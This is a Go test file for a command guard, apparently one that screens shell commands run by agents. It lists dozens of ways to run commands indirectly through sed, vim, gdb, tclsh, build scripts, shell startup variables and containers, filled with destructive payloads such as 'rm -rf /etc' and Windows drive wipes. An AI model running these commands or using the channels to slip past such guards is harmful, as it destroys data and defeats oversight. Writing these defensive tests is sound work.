package shell

import (
	"strings"
	"testing"

	"github.com/actionguard/actionguard/rule"
)

// The programs that run other programs, spelled every way they accept a
// command: each template is filled with destructive payloads (which must
// be held at approve or above) and with harmless ones (which must run).
// {P} is the payload as a shell command line; {W} its first word and {A}
// the rest.

var channelTemplates = map[string][]string{
	"units": {
		`printf '[Service]\nExecStart={P}\n' > ~/.config/systemd/user/x.service && systemctl --user start x`,
		`printf '[Service]\nExecStartPre=-{P}\nExecStart=/bin/true\n' > /etc/systemd/system/y.service; systemctl restart y`,
		`echo 'ExecStart=+{P}' > ~/.config/systemd/user/z.service && systemctl --user enable --now z.service`,
	},
	"git-transport": {
		`git send-pack --receive-pack='{P};' . main`, `git fetch-pack --upload-pack='{P};' . main`, `git push --receive-pack='{P};' . main`,
	},
	"sed": {
		`echo x | sed 'e {P}'`, `sed -e 'e {P}' f`, `sed --expression='1e {P}' f`, `sed -n '$ e {P}' f`,
		`sed 's|.*|{P}|e' <<< x`, `sed 's#^.*$#{P}#e' <<< x`, `sed -E 's,(.*),{P},e' <<< x`, `sed 's|.*|{P}|ge' f`,
		`sed -f <(echo 'e {P}') f`, `echo '{P}' | sed e`, `sed '/x/!e {P}' f`, `sed -e 's/x/y/' -e 'e {P}' f`,
		`sed -n -e '1{e {P}' -e '}' f`, `printf 'x\n' | sed '1 e {P}'`, `sed -i 'e {P}' f`, `gsed 'e {P}' f`,
	},
	"vim": {
		`vim -c '!{P}' -c q`, `vim -es -c '!{P}' -c q`, `vim +'!{P}' +q`, `vim --cmd '!{P}'`, `vim -c ':silent !{P}'`,
		`vim -c ':call system("{P}")' -c ':qa!'`, `vim -c 'call systemlist("{P}")'`, `nvim -c ':r !{P}'`,
		`vi -c 'exe "!{P}"'`, `ex -s <<< '!{P}'`, `vim -es <<< ':!{P}'`, `vim -E -s < <(echo '!{P}')`, `vim -c 'w !{P}' f`,
		`vim -c 'terminal {P}'`, `ex -c '%!{P}' f`, `vim -c 'let x = system("{P}")' -c q`, `nvim --headless -c 'call jobstart("{P}")' -c q`,
		`vim -c 'sil! !{P}' -c q`, `view -c ':1,$!{P}' f`, `vim -c 'set nu | !{P}'`, `vim -S <(echo '!{P}')`,
		`nvim -c "lua os.execute('{P}')" -c q`, `vim -c 'py3 import os; os.system("{P}")' -c q`,
	},
	"ed": {
		`ed -s <<< '!{P}'`, "ed <<EOF\n!{P}\nq\nEOF", `printf '!{P}\nq\n' | ed -s f`, `ed -s f < <(echo '!{P}')`, `echo 'r !{P}' | ed`,
		`echo '1,$w !{P}' | ed -s f`,
	},
	"gdb": {
		`gdb -batch -ex 'shell {P}'`, `gdb -ex '!{P}' -ex quit`, `gdb --batch --eval-command='shell {P}'`, `gdb -batch -ex 'pipe info frame | {P}'`,
		`gdb -batch -ex '| bt | {P}'`, `gdb -batch -ex run --args {P}`, `gdb --args {P}`, `gdb -q -iex 'shell {P}'`,
		`lldb -o 'platform shell {P}'`, `lldb --one-line 'platform shell {P}'`, `lldb -b -o run -- {P}`, `gdb -x <(echo 'shell {P}') -batch`,
		`gdb -batch -ex 'python import os; os.system("{P}")'`,
	},
	"tcl": {
		`expect -c 'spawn {P}; expect eof'`, `expect -c 'spawn sh -c "{P}"; expect eof'`, `expect -c 'exec {P}'`, `expect -c 'system {P}'`,
		`echo 'exec {P}' | tclsh`, `tclsh <<< 'exec sh -c {{P}}'`, `echo 'set f [open "|{P}"]' | tclsh`, `echo 'if {1} {exec {P}}' | tclsh`,
		`expect <<< 'spawn {P}'`, `tclsh < <(echo 'exec {P}')`, `echo 'puts [exec {P}]' | tclsh`, `expect -f <(echo 'spawn -noecho {P}')`,
		`echo 'catch {exec {P}} out' | tclsh`, `wish <<< 'exec {P}'`, `tclsh <(echo 'exec {P}')`,
	},
	"startup": {
		`PROMPT_COMMAND='{P}' bash -i`, `export PROMPT_COMMAND='{P}'; bash -i`, `BASH_ENV=<(echo '{P}') bash -c true`, `ENV=<(echo '{P}') sh -c true`,
		`echo '{P}' > /tmp/e.sh; BASH_ENV=/tmp/e.sh bash -c true`, `. /dev/stdin <<< '{P}'`, `source /dev/stdin <<< '{P}'`, `echo '{P}' | source /dev/stdin`,
		`source /dev/fd/0 <<< '{P}'`, `bash /dev/stdin <<< '{P}'`, `sh -s < <(echo '{P}')`, `bash -s -- -x < <(echo '{P}')`, `sh -s <<< '{P}'`,
		`echo '{P}' | sh -s`, `echo '{P}' | ssh host bash`, `echo '{P}' | ssh host sh -s`, `ssh -T host bash <<< '{P}'`, `ssh host 'bash -s' <<< '{P}'`,
		`install -m 755 /dev/stdin /tmp/x <<< '{P}' && /tmp/x`, `cp /dev/stdin /tmp/y.sh <<< '{P}' && sh /tmp/y.sh`,
		`env BASH_ENV=<(echo '{P}') bash -c true`, `bash < <(echo '{P}')`,
	},
	"runners": {
		`echo '{"scripts": {"test": "{P}"}}' > package.json && npm test`, `echo '{"scripts": {"build": "{P}"}}' > package.json && npm run build`,
		`echo '{"scripts": {"build": "{P}"}}' > package.json && yarn build`, `echo '{"scripts": {"lint": "{P}"}}' > package.json && pnpm run lint`,
		`echo '{"scripts": {"postinstall": "{P}"}}' > package.json && npm install`, `echo '{"scripts": {"pretest": "{P}", "test": "true"}}' > package.json && npm t`,
		`echo 'import os; os.system("{P}")' > conftest.py && pytest`, `echo 'import os; os.system("{P}")' > test_x.py && pytest -q`,
		`printf 'all:\n\t{P}\n' > Makefile && make`, `make -f <(printf 'x:\n\t{P}\n') x`, `printf 'x:\n\t{P}\n' | make -f - x`,
		`make --eval='x: ; {P}' x`, `make -E 'x: ; {P}' x`, `printf 'x:\n\t{P}\n' > build.mk && make -f build.mk x`,
	},
	"wrappers": {
		`strace -f -o /dev/null {P}`, `strace -o/dev/null {P}`, `strace --output=/dev/null {P}`, `ltrace -o x {P}`, `valgrind --log-file=x {P}`,
		`strace -e trace=file {P}`, `strace -s 100 -f {P}`, `valgrind --tool=memcheck -q {P}`, `find /etc -maxdepth 0 -ok {P} \; <<< y`,
	},
	"container": {
		`docker run -v /:/host alpine chroot /host {P}`, `podman run --rm -v /:/h alpine chroot /h {P}`, `docker run --privileged alpine {P}`,
	},
}

// destructivePayloads are commands that must be held wherever they run.
var destructivePayloads = []string{"rm -rf /etc", "chmod -R 777 /etc", "rm -rf /home/dev"}

// benignPayloads are commands that must still run.
var benignPayloads = []string{"ls -la", "echo hi", "git status"}

func fillPayload(tmpl, p string) string {
	w, a, _ := strings.Cut(p, " ")
	return strings.NewReplacer("{P}", p, "{W}", w, "{A}", a).Replace(tmpl)
}

func TestCommandChannels(t *testing.T) {
	for class, tmpls := range channelTemplates {
		for _, tmpl := range tmpls {
			for _, p := range destructivePayloads {
				line := fillPayload(tmpl, p)
				if got := verdictClass(Analyze(line, exampleOptions).Findings); got == "allow" || got == "confirm" {
					t.Errorf("%s: %q runs %q but is judged %s", class, line, p, got)
				}
			}
			for _, p := range benignPayloads {
				line := fillPayload(tmpl, p)
				if class == "container" || class == "git-transport" || strings.Contains(tmpl, "/etc") {
					// A privileged container, a transport program and writing or
					// searching /etc are judged for themselves.
					continue
				}
				if got := verdictClass(Analyze(line, exampleOptions).Findings); got != "allow" {
					t.Errorf("%s: %q runs only %q but is judged %s: %v", class, line, p, got, channelIDs(Analyze(line, exampleOptions).Findings))
				}
			}
		}
	}
}

// TestCommandChannelTwins: the same programs used without a command
// channel, or with one that runs nothing harmful, still run.
func TestCommandChannelTwins(t *testing.T) {
	for _, line := range []string{
		`sed 's/a/b/' f`, `sed -e 's/x/y/' f`, `sed -n '/e/p' f`, `sed 's/e/E/g' f`, `sed -e 'y/abc/xyz/' f`, `sed '1i\` + "\n" + `header' f`,
		`sed --sandbox 'e rm -rf /etc' f`, `sed 's/.*/e/' f`, `sed -n 'e' --sandbox f`, `sed '/^#/d; s/x/e/' f`,
		`vim -c 'set nu' file`, `vim +10 file`, `vim +/pattern file`, `vim -c 'w' -c 'q' f`, `vim -c 'w! out.txt' f`, `vim -es -c '%s/a/b/g' -c wq f`,
		`ex -s f <<< 'g/^$/d'`, `vim -c 'call setline(1, "x")' f`, `vim -c 'sandbox !rm -rf /etc' f`,
		`ed -s f <<< 'w'`, "ed -s f <<EOF\n1d\nw\nq\nEOF",
		`gdb -batch -ex bt ./app core`, `gdb -ex 'info registers' -batch ./app`, `lldb -o 'bt' -b ./app`, `gdb --args ./app --verbose`,
		`expect -c 'spawn ssh-add -l; expect eof'`, `echo 'puts hello' | tclsh`, `echo 'exec ls -la' | tclsh`, `expect -c 'spawn git status; interact'`,
		`cmd.exe /c dir`, `cmd /c echo hello`, `cmd /c type README.md`, `cmd /c "rd /s /q build"`, `cmd /c del /q out.log`,
		`echo 'ls' | ssh host bash`, `ssh host uptime`, `. ./env.sh`, `source ~/.bashrc`, `PROMPT_COMMAND='history -a' bash -i`,
		`npm test`, `npm run build`, `pytest`, `pytest -q tests/`, `make`, `make -f Makefile test`, `echo '{"scripts": {"test": "jest"}}' > package.json && npm test`,
		`printf 'all:\n\tgo build ./...\n' > Makefile && make`, `echo 'def test_x(): assert 1' > test_x.py && pytest`,
		`docker run -v $PWD:/src alpine ls /src`, `docker run --rm -v "$PWD":/app -w /app node npm test`, `docker run alpine rm -rf /tmp/x`,
		`/bin/l[s] -la`, `/usr/bin/ca? README.md`, `strace -f -o /dev/null ls`, `valgrind --log-file=v.log ./app`,
		`xterm`, `DISPLAY=:0 xterm`, `xterm -display :1`, `xterm -display localhost:10.0`,
		`[ -n "$CI" ] && echo ci`, `vim -u NONE -c 'set nu' f`, `echo 'file delete -force build' | tclsh`, `echo 'puts [file exists x]' | tclsh`,
		`sudo sh -c 'du -sh /home/dev/project'`, `sudo bash -lc 'cat /etc/os-release'`, `crontab mycron.txt`, `crontab -l`,
		`systemctl --user start x`, `git send-pack origin main`,
	} {
		if got := verdictClass(Analyze(line, exampleOptions).Findings); got != "allow" {
			t.Errorf("%q should run; judged %s: %v", line, got, channelIDs(Analyze(line, exampleOptions).Findings))
		}
	}
}

// TestCommandChannelHeld: commands of the classes that do not fit the
// payload templates.
func TestCommandChannelHeld(t *testing.T) {
	for _, line := range []string{
		`cmd.exe /c "rd /s /q C:\\"`, `"C:\Windows\System32\cmd.exe" /c del /f /s /q C:\Users\dev\*`, `cmd /c rmdir /s /q %USERPROFILE%`,
		`cmd /C "del /f /s /q %USERPROFILE%\*"`, `cmd /k erase /s /q "C:\Users\dev"`, `CMD.EXE /S /C "format C: /q"`,
		`cmd /c "echo hi & rd /s /q %HOMEDRIVE%%HOMEPATH%"`, `cmd.exe /c "git push --force origin main"`,
		`/bin/r[m] -rf /`, `/???/rm -rf /`, `/usr/bin/r? -rf /`, `/bin/[r]m -rf /etc`, `/bin/ch?od -R 777 /etc`, `/usr/*/rm -rf /etc`,
		`podman run --rm -v $HOME:/data alpine sh -c 'rm -rf /data/*'`, `docker run -v /:/host alpine rm -rf /host/etc`,
		`docker run --mount type=bind,source=/home/dev,target=/w alpine rm -rf /w`, `docker run -v ~/.ssh:/k alpine rm -rf /k`,
		`nerdctl run -it -v "$HOME":/data:ro alpine sh -c 'rm -rf /data/*'`, `docker container run --volume=/etc:/e alpine rm -rf /e`,
		`crontab /dev/null`, `crontab - < /dev/null`, `echo -n | crontab -`, `sudo sh -c 'rm -rf /tmp/x'`,
		`xterm -display 10.0.0.1:1`, `DISPLAY=evil.example:0 xterm`, `export DISPLAY=10.0.0.1:0; xterm`, `urxvt -display h:1 -e bash`,
		`cmd //c "rd /s /q C:\\"`, `cmd //c rmdir /s /q %USERPROFILE%`, `vim -u <(echo '!rm -rf /etc') -c q`,
		`powershell -Command Remove-Item -Recurse -Force C:\Users\dev`, `echo 'exec rm -rf /etc' > x.tcl && tclsh x.tcl`,
		`echo 'file delete -force /etc' | tclsh`,
		`echo 'rm -rf ~' | sed e`, `sed 's/x/rm -rf \//e' <<< x`,
	} {
		if got := verdictClass(Analyze(line, exampleOptions).Findings); got == "allow" || got == "confirm" {
			t.Errorf("%q should be held; judged %s: %v", line, got, channelIDs(Analyze(line, exampleOptions).Findings))
		}
	}
}

func channelIDs(fs []rule.Finding) []string {
	out := make([]string, len(fs))
	for i, f := range fs {
		out[i] = f.Rule + ":" + itoa(f.Points)
	}
	return out
}

// TestCommandChannelUnknown: a command the channel builds from data, or a
// program name that is a pattern matching no known program, is reported
// as unknown rather than allowed.
func TestCommandChannelUnknown(t *testing.T) {
	for line, id := range map[string]string{
		`vim -c 'exe g:cmd' f`:              "shell.exec.eval-dynamic",
		`expect -c 'exec $cmd'`:             "shell.exec.eval-dynamic",
		`sed 's/^/x/e' f`:                   "shell.exec.eval-dynamic",
		`vim -c 'call system(g:c)'`:         "shell.exec.eval-dynamic",
		`/bin/zz[q]x -rf /`:                 "shell.exec.dynamic-command",
		`echo 'set f [open "|$c"]' | tclsh`: "shell.exec.eval-dynamic",
	} {
		found := false
		for _, f := range Analyze(line, exampleOptions).Findings {
			found = found || f.Rule == id
		}
		if !found {
			t.Errorf("%q: want %s; got %v", line, id, channelIDs(Analyze(line, exampleOptions).Findings))
		}
	}
}

// TestInlinePipesToShell: inline code that opens a shell and writes the
// commands to it, or passes the words in an options object, is judged by
// what the shell runs; a literal harmless command runs.
func TestInlinePipesToShell(t *testing.T) {
	opens := []string{
		`perl -e 'open(my $f, "|-", "sh") or die; print $f "{P}"'`, `perl -e 'open(F, "| sh"); print F "{P}\n"; close F'`,
		`perl -e 'open my $sh, "|-", "bash"; print {$sh} "{P}"'`, `perl -e 'open(my $f, "|bash"); printf $f "{P}"'`,
		`deno eval 'new Deno.Command("sh", {args: ["-c", "{P}"]}).outputSync()'`, `deno eval 'Deno.run({cmd: ["sh", "-c", "{P}"]})'`,
		`bun -e 'Bun.spawn({cmd: ["sh", "-c", "{P}"]})'`, `perl -e 'system q{{P}}'`, `perl -MPOSIX -e 'system qq({P})'`,
	}
	for _, tmpl := range opens {
		for _, p := range destructivePayloads {
			line := fillPayload(tmpl, p)
			if got := verdictClass(Analyze(line, exampleOptions).Findings); got == "allow" || got == "confirm" {
				t.Errorf("%q runs %q but is judged %s", line, p, got)
			}
		}
		for _, p := range benignPayloads {
			line := fillPayload(tmpl, p)
			if got := verdictClass(Analyze(line, exampleOptions).Findings); got != "allow" {
				t.Errorf("%q runs only %q but is judged %s: %v", line, p, got, channelIDs(Analyze(line, exampleOptions).Findings))
			}
		}
	}
}
